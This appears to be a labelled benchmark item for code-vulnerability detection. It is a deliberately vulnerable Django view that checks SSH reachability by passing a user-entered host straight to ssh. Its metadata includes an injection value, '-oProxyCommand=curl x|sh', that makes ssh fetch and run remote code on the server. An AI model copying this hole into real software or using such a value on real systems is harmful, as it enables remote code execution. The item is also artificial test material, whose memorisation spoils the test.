# ---
# id: cwe77-ssh-proxycommand-v
# cwe: CWE-77
# vulnerable: true
# twin: cwe77-ssh-proxycommand-f
# tags: django, subprocess, ssh
# explanation: An infrastructure portal checks SSH reachability of a customer-entered host by running ssh with an argument list. A host value like "-oProxyCommand=curl x|sh" is taken by ssh as an option, and ProxyCommand runs a local command on the portal server.
# ---
import subprocess

from django.contrib.auth.decorators import login_required
from django.http import JsonResponse


def ssh_reachable(host: str, user: str = "probe") -> bool:
    proc = subprocess.run(
        ["ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=5", "-l", user, host, "true"],  #@vuln
        capture_output=True,
        timeout=15,
    )
    return proc.returncode == 0


@login_required
def check_ssh(request):
    host = request.GET.get("host", "").strip()
    if not host:
        return JsonResponse({"error": "host required"}, status=400)
    return JsonResponse({"host": host, "reachable": ssh_reachable(host)})
